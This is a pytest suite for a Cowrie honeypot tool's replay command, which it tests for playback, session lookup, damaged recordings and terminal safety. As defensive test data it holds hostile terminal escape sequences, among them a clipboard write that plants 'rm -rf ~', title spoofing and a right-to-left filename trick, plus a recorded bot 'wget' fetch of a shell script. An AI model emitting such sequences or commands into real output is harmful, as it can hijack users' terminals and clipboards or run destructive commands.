"""`cowrie-batch replay`: real generated recordings replayed as text and as asciicast v2,
session lookup through the JSON log, hostile escape sequences neutralised, damaged
recordings replayed up to the damage with exit code 1, timing (scaled and capped).

Recordings made here are written with struct.pack("<iLiiLL", ...) as Cowrie's ttylog.py does;
the safety checks below are independent of the C++ filter."""

import json
import re
import struct
import time

import pytest

import cbtest
from cbtest import run_cb

RUN3 = "generated/cowrie-v3.0.12-93-g1b51ef96-run3"
SHELL_REC = "312df7a7e52e7630be27b635906c87dacf7c51fb4fd58b5d43e8350416382396"  # session 4b09ac87026b
EXEC_REC = "5e3c5f3ef2cba4d1e1726a51c7caa3ff6eed3165399066a7a278a81169d6992d"   # session 0aaa385b9832
SHELL_SESSION = "4b09ac87026b"  # pty 120x40: motd, `uname -a`, a failing wget
EXEC_SESSION = "0aaa385b9832"   # exec: uname -a; cat /proc/cpuinfo | head -5; echo done
NO_TTY_SESSION = "c7d43f710263"  # failed logins only

OPEN, CLOSE, WRITE = 1, 2, 3
INPUT, OUTPUT, INTERACT = 1, 2, 3
T0 = 1_700_000_000


def rec(op, direction, t, data=b""):
    sec = int(t)
    usec = int(round((t - sec) * 1_000_000))
    return struct.pack("<iLiiLL", op, 0, len(data), direction, sec, usec) + data


def recording(writes, close=True, t0=T0):
    """writes: (seconds after t0, direction, bytes)."""
    out = rec(OPEN, 0, t0)
    last = 0.0
    for dt, direction, data in writes:
        out += rec(WRITE, direction, t0 + dt, data)
        last = dt
    if close:
        out += rec(CLOSE, 0, t0 + last + 0.001)
    return out


def parse_recording(data):
    """(op, direction, seconds, payload) per record: a plain reference reader."""
    off = 0
    while off + 24 <= len(data):
        op, _tty, length, direction, sec, usec = struct.unpack("<iLiiLL", data[off:off + 24])
        yield op, direction, sec + usec / 1e6, data[off + 24:off + 24 + length]
        off += 24 + length


def replay(cb_bin, *args, timeout=60):
    return run_cb(cb_bin, "replay", *args, timeout=timeout)


@pytest.fixture(scope="module")
def run3():
    path = cbtest.SAMPLES / RUN3
    if not path.is_dir():
        pytest.skip(cbtest.SAMPLES_MISSING)
    return path


# --------------------------------------------------------------------------------------------
# Independent checks of what reaches a terminal

BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
C1 = re.compile("[\u0080-\u009f]")
ALLOWED_CSI = re.compile(r"\x1b\[([0-9;:]*)([mABCDHJK])")


def assert_terminal_safe(raw: bytes, allow_csi: bool):
    text = raw.decode("utf-8")  # raises on invalid UTF-8
    assert not C1.search(text), "C1 control in output"
    assert not BIDI.search(text), "bidi control in output"
    rest = text
    if allow_csi:
        for m in ALLOWED_CSI.finditer(text):
            assert not (m.group(2) == "J" and m.group(1) == "3"), "CSI 3 J (erase scrollback) kept"
            assert not (m.group(2) != "m" and ":" in m.group(1))
        rest = ALLOWED_CSI.sub("", text)
    bad = [c for c in rest if (ord(c) < 0x20 and c not in "\r\n\t\b") or c == "\x7f"]
    assert not bad, f"control characters reached the terminal: {bad[:10]!r}"


def read_cast(path):
    lines = path.read_bytes().split(b"\n")
    assert lines[-1] == b"", "the cast must end with a newline"
    for line in lines[:-1]:
        assert all(b >= 0x20 for b in line), f"raw control byte in cast line {line[:80]!r}"
    header = json.loads(lines[0])
    events = [json.loads(line) for line in lines[1:-1]]
    return header, events


# --------------------------------------------------------------------------------------------
# Real recordings


def test_replays_real_shell_recording(cb_bin, run3):
    p = replay(cb_bin, run3 / "tty" / SHELL_REC, "--no-delay")
    assert p.returncode == 0, p.stderr
    out = p.stdout.decode("utf-8")
    assert "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY" in out
    assert "root@svr04:~# uname -a\n" in out
    assert "Linux svr04 6.1.0-21-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.90-1 (2024-05-03) x86_64 GNU/Linux\n" in out
    assert "wget: unable to resolve host address \u2018127.0.0.1\u2019" in out
    assert out.rstrip().endswith("root@svr04:~#")
    assert b"\x1b" not in p.stdout  # not a terminal: plain text (Cowrie's CSI 4 h / 4 l removed)
    assert_terminal_safe(p.stdout, allow_csi=False)


def test_input_and_both(cb_bin, run3):
    p = replay(cb_bin, run3 / "tty" / SHELL_REC, "--input")
    assert p.returncode == 0, p.stderr
    assert p.stdout == b"uname -a\nwget http://127.0.0.1:9/bins.sh\n"
    p = replay(cb_bin, run3 / "tty" / SHELL_REC, "--both")
    assert p.returncode == 0
    assert p.stdout.count(b"uname -a\n") == 2  # typed, then echoed by Cowrie
    assert b"Linux svr04" in p.stdout


def test_both_to_a_pipe_does_not_interleave_typing_and_echo(cb_bin, tmp_path):
    path = tmp_path / "typed"
    path.write_bytes(recording([
        (0.1, OUTPUT, b"$ "),
        (0.2, INPUT, b"l"), (0.21, OUTPUT, b"l"),
        (0.3, INPUT, b"s"), (0.31, OUTPUT, b"s"),
        (0.4, INPUT, b"\r"), (0.41, OUTPUT, b"\r\nfile\r\n$ "),
        (0.5, INPUT, b"pwd"),  # no Enter before the end
    ]))
    p = replay(cb_bin, path, "--both")
    assert p.returncode == 0, p.stderr
    out = p.stdout.decode().replace("\r", "")
    assert "llss" not in out
    assert out == "$ ls\n[input] ls\nfile\n$ \n[input] pwd\n", out
    assert replay(cb_bin, path).stdout.decode().replace("\r", "") == "$ ls\nfile\n$ "  # output only: as before


def test_exec_recording_shows_the_command(cb_bin, run3):
    p = replay(cb_bin, run3 / "tty" / EXEC_REC)
    assert p.returncode == 0, p.stderr
    assert p.stdout.decode() == (
        "uname -a; cat /proc/cpuinfo | head -5; echo done\n"
        "Linux svr04 6.1.0-21-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.90-1 (2024-05-03) x86_64 GNU/Linux\n"
        "head: invalid option -- '5'\n"
        "done\n"
    )


def test_asciicast_export(cb_bin, run3, tmp_path):
    cast = tmp_path / "shell.cast"
    p = replay(cb_bin, run3 / "tty" / SHELL_REC, "--asciicast", cast)
    assert p.returncode == 0, p.stderr
    assert p.stdout == b""
    header, events = read_cast(cast)
    assert header["version"] == 2
    assert (header["width"], header["height"]) == (80, 24)  # a bare file: no client.size known
    first_sec = struct.unpack("<iLiiLL", (run3 / "tty" / SHELL_REC).read_bytes()[:24])[4]
    assert header["timestamp"] == first_sec
    times = [e[0] for e in events]
    assert times == sorted(times) and times[0] >= 0
    assert all(len(e) == 3 and e[1] == "o" and isinstance(e[2], str) for e in events)
    text = "".join(e[2] for e in events)
    assert "root@svr04:~# uname -a\r\n" in text
    assert "\x1b[4h" in text  # the cast keeps the raw bytes (as JSON escapes)
    assert re.search(r"(?<!\r)\n", text) is None, "bare LF in a cast (players need CR LF)"
    recs = list(parse_recording((run3 / "tty" / SHELL_REC).read_bytes()))
    last_output = max(t for op, d, t, _ in recs if d == OUTPUT)
    assert times[-1] == pytest.approx(last_output - recs[0][2], abs=1e-5)


def test_asciicast_to_stdout(cb_bin, run3):
    p = replay(cb_bin, run3 / "tty" / EXEC_REC, "--asciicast", "-")
    assert p.returncode == 0, p.stderr
    lines = p.stdout.decode().splitlines()
    assert json.loads(lines[0])["version"] == 2
    assert json.loads(lines[1])[2] == "uname -a; cat /proc/cpuinfo | head -5; echo done\r\n"


# --------------------------------------------------------------------------------------------
# Session lookup


def test_session_via_log_file(cb_bin, run3):
    p = replay(cb_bin, SHELL_SESSION, "--log", run3 / "cowrie.json", "--no-delay")
    assert p.returncode == 0, p.stderr
    assert b"Linux svr04 6.1.0-21-amd64" in p.stdout
    assert SHELL_REC.encode() in p.stderr  # which recording was played


def test_session_via_tty_dir_finds_the_log_beside_it(cb_bin, run3):
    p = replay(cb_bin, SHELL_SESSION, "--tty-dir", run3 / "tty")
    assert p.returncode == 0, p.stderr
    assert b"root@svr04:~# wget http://127.0.0.1:9/bins.sh" in p.stdout


def test_session_via_log_folder(cb_bin, run3):
    p = replay(cb_bin, EXEC_SESSION, "--log", run3)
    assert p.returncode == 0, p.stderr
    assert p.stdout.startswith(b"uname -a; cat /proc/cpuinfo")


def test_session_asciicast_uses_client_size(cb_bin, run3, tmp_path):
    cast = tmp_path / "s.cast"
    p = replay(cb_bin, SHELL_SESSION, "--log", run3 / "cowrie.json", "--asciicast", cast)
    assert p.returncode == 0, p.stderr
    header, events = read_cast(cast)
    assert (header["width"], header["height"]) == (120, 40)  # from cowrie.client.size
    assert SHELL_SESSION in header.get("title", "")
    assert any("root@svr04" in e[2] for e in events)


def test_shasum_with_tty_dir(cb_bin, run3):
    p = replay(cb_bin, EXEC_REC, "--tty-dir", run3 / "tty")
    assert p.returncode == 0, p.stderr
    assert b"head: invalid option" in p.stdout


def test_unknown_session_and_session_without_recording(cb_bin, run3):
    p = replay(cb_bin, "deadbeef0000", "--log", run3 / "cowrie.json")
    assert p.returncode == 2
    assert b"not found" in p.stderr
    p = replay(cb_bin, NO_TTY_SESSION, "--log", run3 / "cowrie.json")
    assert p.returncode == 2
    assert b"no TTY recording" in p.stderr


def test_session_as_sensor_slash_session(cb_bin):
    """hints.json, report.html and sessions.jsonl name a session SENSOR/SESSION: replay takes that
    form too, and the sensor must match."""
    logs = cbtest.REPO / "examples" / "logs"
    ev = next(e for e in map(json.loads, (logs / "cowrie.json").read_text("utf-8").splitlines())
              if e["eventid"] == "cowrie.log.closed")
    whole = f"{ev['sensor']}/{ev['session']}"
    p = replay(cb_bin, whole, "--log", logs, "--asciicast", "-")
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout.splitlines()[0])["title"] == f"cowrie session {whole}"
    assert p.stdout == replay(cb_bin, ev["session"], "--log", logs, "--asciicast", "-").stdout.replace(
        ev["session"].encode(), whole.encode(), 1)
    p = replay(cb_bin, f"another-sensor/{ev['session']}", "--log", logs)
    assert p.returncode == 2 and b"not found" in p.stderr, p.stderr


def write_log(folder, events):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "cowrie.json").write_bytes(cbtest.dumps(events))


def closed(sid, t, sha, duplicate=False):
    return {"eventid": "cowrie.log.closed", "session": sid, "sensor": "s1", "timestamp": cbtest.ts(t),
            "ttylog": f"var/lib/cowrie/tty/{sha}", "shasum": sha, "size": 10, "duplicate": duplicate}


def test_duplicate_recording_is_the_first_sessions(cb_bin, tmp_path):
    sha = "ab" * 32
    logs = tmp_path / "log"
    write_log(logs, [
        {"eventid": "cowrie.session.connect", "session": "aaaa00000001", "sensor": "s1", "timestamp": cbtest.ts(0)},
        closed("aaaa00000001", 5, sha),
        {"eventid": "cowrie.session.connect", "session": "bbbb00000002", "sensor": "s1", "timestamp": cbtest.ts(100)},
        closed("bbbb00000002", 105, sha, duplicate=True),  # Cowrie deleted this copy
    ])
    (logs / "tty").mkdir()
    (logs / "tty" / sha).write_bytes(recording([(0.1, INPUT, b"id\n"), (0.2, OUTPUT, b"uid=0(root) gid=0(root)\n")]))
    p = replay(cb_bin, "bbbb00000002", "--log", logs)
    assert p.returncode == 0, p.stderr
    assert p.stdout == b"uid=0(root) gid=0(root)\n"
    assert b"duplicate" in p.stderr and b"aaaa00000001" in p.stderr


def test_missing_recording_file(cb_bin, tmp_path):
    logs = tmp_path / "log"
    write_log(logs, [closed("cccc00000003", 1, "cd" * 32), closed("cccc00000003", 2, "ef" * 32)])
    p = replay(cb_bin, "cccc00000003", "--log", logs)
    assert p.returncode == 2  # nothing to play
    assert b"not found" in p.stderr
    (logs / "tty").mkdir()
    (logs / "tty" / ("ef" * 32)).write_bytes(recording([(0.1, OUTPUT, b"second channel\n")]))
    p = replay(cb_bin, "cccc00000003", "--log", logs)
    assert p.returncode == 1  # one of two played
    assert p.stdout == b"second channel\n"


# --------------------------------------------------------------------------------------------
# Hostile recordings

HOSTILE_OUTPUT = (
    b"start\n"
    b"\x1b]0;PWNED-TITLE\x07"                 # window title (OSC 0, BEL)
    b"\x1b]2;PWNED-TITLE-2\x1b\\"              # window title (OSC 2, ST)
    b"\x1b]52;c;cm0gLXJmIH4=\x07"              # clipboard write (OSC 52)
    b"\x1b[?1049h"                              # alternate screen
    b"\x1bP1$qm\x1b\\"                          # DCS status request (terminal answers)
    b"\x1b_APC-PAYLOAD\x1b\\\x1b^PM-PAYLOAD\x1b\\"
    b"\x1b[6n\x1b[c\x1b[21t"                    # cursor report, device attributes, title report
    b"\x1b[?2004h\x1b[200~"                     # bracketed paste
    b"\x1b[3J"                                  # erase scrollback
    b"\x1bc\x0e"                                # full reset, shift out
    b"\xc2\x9b31m\xc2\x9d0;C1-TITLE\xc2\x9c"    # C1 CSI and OSC, UTF-8 encoded
    b"\x9b\xff"                                 # raw 8-bit CSI, invalid UTF-8
    b"\x1b[31mred\x1b[0m \x1b[8mconcealed\x1b[0m\n"
    b"file.\xe2\x80\xaetxt.exe\n"               # right-to-left override
    b"end\n"
)


def hostile_recording(path):
    path.write_bytes(recording([
        (0.1, OUTPUT, HOSTILE_OUTPUT[:40]),
        (0.2, OUTPUT, HOSTILE_OUTPUT[40:41]),  # sequences split between records
        (0.3, OUTPUT, HOSTILE_OUTPUT[41:]),
        (0.4, INPUT, b"\x1b]0;INPUT-TITLE\x07typed\r"),
    ]))
    return path


@pytest.mark.parametrize("mode", ["strip", "safe"])
def test_hostile_recording_is_neutralised(cb_bin, tmp_path, mode):
    path = hostile_recording(tmp_path / "hostile")
    p = replay(cb_bin, path, "--both", "--escapes", mode)
    assert p.returncode == 0, p.stderr
    assert_terminal_safe(p.stdout, allow_csi=(mode == "safe"))
    out = p.stdout.decode("utf-8")
    for hidden in ("PWNED-TITLE", "cm0gLXJmIH4=", "APC-PAYLOAD", "PM-PAYLOAD", "C1-TITLE", "INPUT-TITLE"):
        assert hidden not in out
    for shown in ("start\n", "red", "concealed", "txt.exe", "end\n", "typed"):
        assert shown in out
    assert "\ufffd" in out  # the raw 8-bit CSI, the invalid byte and the bidi override
    if mode == "safe":
        assert "\x1b[31mred\x1b[0m" in out
        assert "\x1b[8m" not in out


def test_hostile_recording_default_to_a_pipe_is_plain(cb_bin, tmp_path):
    p = replay(cb_bin, hostile_recording(tmp_path / "hostile"))
    assert p.returncode == 0
    assert b"\x1b" not in p.stdout
    assert_terminal_safe(p.stdout, allow_csi=False)


def test_hostile_asciicast_is_valid_json_and_inert(cb_bin, tmp_path):
    cast = tmp_path / "hostile.cast"
    p = replay(cb_bin, hostile_recording(tmp_path / "hostile"), "--asciicast", cast)
    assert p.returncode == 0, p.stderr
    header, events = read_cast(cast)  # also checks: no raw control byte in the file
    raw = cast.read_bytes()
    assert b"\\u001b]0;PWNED-TITLE\\u0007" in raw
    assert b"\\u202e" in raw and "\u202e".encode() not in raw
    assert b"\\u009b" in raw
    text = "".join(e[2] for e in events)
    assert "\x1b]0;PWNED-TITLE\x07" in text  # kept for the player, escaped in the file
    assert "\ufffd" in text                   # invalid UTF-8 (0x9b, 0xff)


# --------------------------------------------------------------------------------------------
# Damaged recordings


def test_truncated_real_recording_replays_partly(cb_bin, run3, tmp_path):
    data = (run3 / "tty" / SHELL_REC).read_bytes()
    cut = data.index(b"(2024-05-03) x86_64")  # inside the `uname -a` output record
    path = tmp_path / "cut"
    path.write_bytes(data[:cut])
    p = replay(cb_bin, path)
    assert p.returncode == 1, p.stderr
    assert b"root@svr04:~# uname -a\nLinux svr04 6.1.0-21-amd64" in p.stdout
    assert b"x86_64" not in p.stdout
    assert b"truncated" in p.stderr


def test_truncated_and_garbage_synthetic(cb_bin, tmp_path):
    good = recording([(0.1, OUTPUT, b"first line\n"), (0.2, OUTPUT, b"second line\n")], close=False)
    path = tmp_path / "cut"
    path.write_bytes(good[:-5])
    p = replay(cb_bin, path)
    assert (p.returncode, p.stdout) == (1, b"first line\nsecond ")
    path.write_bytes(good + b"\xde\xad\xbe\xef" * 10)
    p = replay(cb_bin, path)
    assert (p.returncode, p.stdout) == (1, b"first line\nsecond line\n")
    assert b"not a TTY record" in p.stderr


def test_missing_close_is_fine(cb_bin, tmp_path):
    path = tmp_path / "open"
    path.write_bytes(recording([(0.1, OUTPUT, b"still running\n")], close=False))
    p = replay(cb_bin, path)
    assert p.returncode == 0
    assert p.stdout == b"still running\n"
    assert b"no CLOSE" in p.stderr


def test_not_a_recording_empty_and_missing(cb_bin, tmp_path):
    log = tmp_path / "cowrie.json"
    log.write_bytes(cbtest.dumps(cbtest.clean_log(1)))
    p = replay(cb_bin, log)
    assert p.returncode == 2
    assert b"not a Cowrie TTY recording" in p.stderr
    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    assert replay(cb_bin, empty).returncode == 1
    assert replay(cb_bin, tmp_path / "nope" / "x").returncode == 2


def test_usage_errors(cb_bin, tmp_path):
    path = tmp_path / "r"
    path.write_bytes(recording([(0.1, OUTPUT, b"x")]))
    assert replay(cb_bin, path, "--input", "--both").returncode == 2
    assert replay(cb_bin, path, "--speed", "0").returncode == 2
    assert replay(cb_bin, path, "--speed", "2", "--no-delay").returncode == 2
    assert replay(cb_bin, path, "--escapes", "raw").returncode == 2
    assert replay(cb_bin).returncode == 2


# --------------------------------------------------------------------------------------------
# Timing


def test_pipe_replays_without_delay_by_default(cb_bin, tmp_path):
    path = tmp_path / "slow"
    path.write_bytes(recording([(0.0, OUTPUT, b"a\n"), (100.0, OUTPUT, b"b\n"), (200.0, OUTPUT, b"c\n")]))
    t = time.monotonic()
    p = replay(cb_bin, path)
    assert p.returncode == 0 and p.stdout == b"a\nb\nc\n"
    assert time.monotonic() - t < 2.5


def test_delays_are_scaled_and_capped(cb_bin, tmp_path):
    path = tmp_path / "timed"
    path.write_bytes(recording([(0.0, OUTPUT, b"a"), (1.0, OUTPUT, b"b"), (50.0, OUTPUT, b"c")]))
    t = time.monotonic()
    # --speed asks for timing even on a pipe: 1 s / 4 = 0.25 s, then 50 s / 4 capped at 0.5 s
    p = replay(cb_bin, path, "--speed", "4", "--max-delay", "0.5")
    elapsed = time.monotonic() - t
    assert p.returncode == 0 and p.stdout == b"abc"
    assert 0.7 <= elapsed < 5, elapsed


def run_on_pty(cb_bin, *args, interrupt_after=None):
    """Runs `replay` with stdout on a pseudo-terminal (the interactive path: safe escapes,
    delays, colours). Returns (rc, output bytes, stderr bytes, seconds)."""
    import os
    import pty
    import signal
    import subprocess

    master, slave = pty.openpty()
    t = time.monotonic()
    proc = subprocess.Popen([str(cb_bin), "replay", *map(str, args)], stdout=slave, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env={**os.environ, "LC_ALL": "C", "TZ": "UTC"})
    os.close(slave)
    if interrupt_after is not None:
        time.sleep(interrupt_after)
        proc.send_signal(signal.SIGINT)
    out = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    err = proc.stderr.read()
    proc.wait(timeout=30)
    return proc.returncode, out, err, time.monotonic() - t


def test_terminal_replay_keeps_timing_and_safe_escapes(cb_bin, tmp_path):
    rc, out, err, secs = run_on_pty(cb_bin, hostile_recording(tmp_path / "hostile"), "--both")
    assert rc == 0, err
    assert secs >= 0.25  # three gaps of 0.1 s, replayed as recorded
    out = out.replace(b"\r\n", b"\n")  # the pty's ONLCR
    assert_terminal_safe(out, allow_csi=True)
    assert b"\x1b[31mred\x1b[0m" in out  # colours kept on a terminal
    assert b"\x1b[33mtyped" in out       # typed input in yellow with --both
    assert b"PWNED-TITLE" not in out
    assert out.endswith(b"\n")           # the shell prompt after the replay starts on its own line


def test_terminal_replay_can_be_interrupted(cb_bin, tmp_path):
    path = tmp_path / "long"
    path.write_bytes(recording([(0.0, OUTPUT, b"\x1b[32mgreen before the pause"), (60.0, OUTPUT, b"after\n")]))
    rc, out, err, secs = run_on_pty(cb_bin, path, "--max-delay", "60", interrupt_after=0.5)
    assert rc == 130
    assert secs < 10
    assert b"after" not in out
    assert out.rstrip(b"\r\n").endswith(b"\x1b[0m")  # colour reset on the way out
    assert b"interrupted" in err


# --------------------------------------------------------------------------------------------
# The same checks on the real recordings the repository ships (examples/logs and the two
# sensors of tests/data/multi-sensor, whose rotated half is gzipped in honeypot-east). Every
# expectation comes from driver-facts.json (what the clients typed) and the log itself.

SHIPPED = ["examples/logs", "tests/data/multi-sensor/honeypot-east", "tests/data/multi-sensor/honeypot-west"]


class Shipped:
    """One shipped recording folder: the driver's scenarios, each with its session id and
    TTY recordings, found by (protocol port, client source port) as test_real_cowrie.py does."""

    def __init__(self, folder):
        self.dir = folder
        self.facts = json.loads((folder / "driver-facts.json").read_text("utf-8"))
        events = []
        for f in sorted(folder.glob("cowrie.json*")):
            events += [json.loads(x) for x in cbtest.decompress(f.read_bytes()).splitlines() if x.strip()]
        sid_of = {(e["dst_port"], e["src_port"]): e["session"] for e in events
                  if e["eventid"] == "cowrie.session.connect"}
        self.tty = {}
        for e in events:
            if e["eventid"] == "cowrie.log.closed":
                self.tty.setdefault(e["session"], []).append(e["shasum"])
        ports = self.facts["honeypot"]
        self.sid = {id(s): sid_of[(ports[s["protocol"] + "_port"], s["src_port"])] for s in self.facts["scenarios"]}

    def scenario(self, name):
        scn = next(s for s in self.facts["scenarios"] if s["name"] == name)
        return scn, self.sid[id(scn)]

    def recording(self, name):
        scn, sid = self.scenario(name)
        assert len(self.tty.get(sid, [])) == 1, (name, self.tty.get(sid))
        return scn, sid, self.dir / "tty" / self.tty[sid][0]


@pytest.fixture(scope="module", params=SHIPPED, ids=[p.rsplit("/", 1)[-1] for p in SHIPPED])
def shipped(request):
    return Shipped(cbtest.REPO / request.param)


def test_shipped_shell_recording(cb_bin, shipped):
    scn, _sid, path = shipped.recording("bot_commands_shell")
    p = replay(cb_bin, path, "--no-delay")
    assert p.returncode == 0, p.stderr
    out = p.stdout.decode("utf-8")
    for cmd in scn["commands"]:
        assert f"root@svr04:~# {cmd}\n" in out, cmd
    assert "-bash: nvidia-smi: command not found\n" in out
    assert b"\x1b" not in p.stdout
    assert_terminal_safe(p.stdout, allow_csi=False)


def test_shipped_input_and_both(cb_bin, shipped):
    scn, _sid, path = shipped.recording("bot_commands_shell")
    p = replay(cb_bin, path, "--input")
    assert p.returncode == 0, p.stderr
    assert p.stdout.decode() == "".join(c + "\n" for c in scn["commands"])
    p = replay(cb_bin, path, "--both")
    assert p.returncode == 0
    assert p.stdout.count(b"free -m\n") == 2  # typed, then echoed by Cowrie


def test_shipped_exec_recording_shows_the_command(cb_bin, shipped):
    scn, _sid, path = shipped.recording("exec_uname_openssh")
    p = replay(cb_bin, path)
    assert p.returncode == 0, p.stderr
    assert p.stdout.decode() == "uname -a\n" + scn["stdout"].replace("\r\n", "\n")


def test_shipped_asciicast_export(cb_bin, shipped, tmp_path):
    _scn, _sid, path = shipped.recording("bot_commands_shell")
    cast = tmp_path / "shell.cast"
    p = replay(cb_bin, path, "--asciicast", cast)
    assert p.returncode == 0, p.stderr
    header, events = read_cast(cast)
    assert (header["version"], header["width"], header["height"]) == (2, 80, 24)  # bare file
    recs = list(parse_recording(path.read_bytes()))
    assert header["timestamp"] == int(recs[0][2])
    times = [e[0] for e in events]
    assert times == sorted(times) and times[0] >= 0
    text = "".join(e[2] for e in events)
    assert "root@svr04:~# free -m\r\n" in text
    assert re.search(r"(?<!\r)\n", text) is None, "bare LF in a cast (players need CR LF)"
    last_output = max(t for op, d, t, _ in recs if d == OUTPUT)
    assert times[-1] == pytest.approx(last_output - recs[0][2], abs=1e-5)


def test_shipped_session_lookup(cb_bin, shipped, tmp_path):
    """By session id through the log file, the log folder (its rotated half gzipped in
    honeypot-east) and the tty folder; the pty size comes from the log."""
    scn, sid, path = shipped.recording("spans_utc_midnight")
    for how in (["--log", shipped.dir / "cowrie.json"], ["--log", shipped.dir], ["--tty-dir", shipped.dir / "tty"]):
        p = replay(cb_bin, sid, *how, "--input")
        assert p.returncode == 0, (how, p.stderr)
        assert p.stdout.decode() == "".join(c + "\n" for c in scn["commands"]), how
        assert path.name.encode() in p.stderr
    cast = tmp_path / "s.cast"
    assert replay(cb_bin, sid, "--log", shipped.dir, "--asciicast", cast).returncode == 0
    header, _events = read_cast(cast)
    assert (header["width"], header["height"]) == (120, 40)  # drive.py's pty size
    assert sid in header.get("title", "")
    p = replay(cb_bin, path.name, "--tty-dir", shipped.dir / "tty")  # a shasum
    assert p.returncode == 0 and b"root@svr04:~# uptime" in p.stdout, p.stderr


def test_shipped_unknown_session_and_session_without_recording(cb_bin, shipped):
    p = replay(cb_bin, "deadbeef0000", "--log", shipped.dir)
    assert p.returncode == 2 and b"not found" in p.stderr
    _scn, sid = shipped.scenario("bruteforce_failed_openssh")
    p = replay(cb_bin, sid, "--log", shipped.dir)
    assert p.returncode == 2 and b"no TTY recording" in p.stderr, p.stderr


def test_shipped_truncated_recording_replays_partly(cb_bin, shipped, tmp_path):
    _scn, _sid, path = shipped.recording("exec_uname_openssh")
    data = path.read_bytes()
    cut = tmp_path / "cut"
    cut.write_bytes(data[:data.index(b"(2024-05-03) x86_64")])  # inside the `uname -a` output
    p = replay(cb_bin, cut)
    assert p.returncode == 1, p.stderr
    assert p.stdout.startswith(b"uname -a\nLinux svr04 6.1.0-21-amd64")
    assert b"x86_64" not in p.stdout and b"truncated" in p.stderr
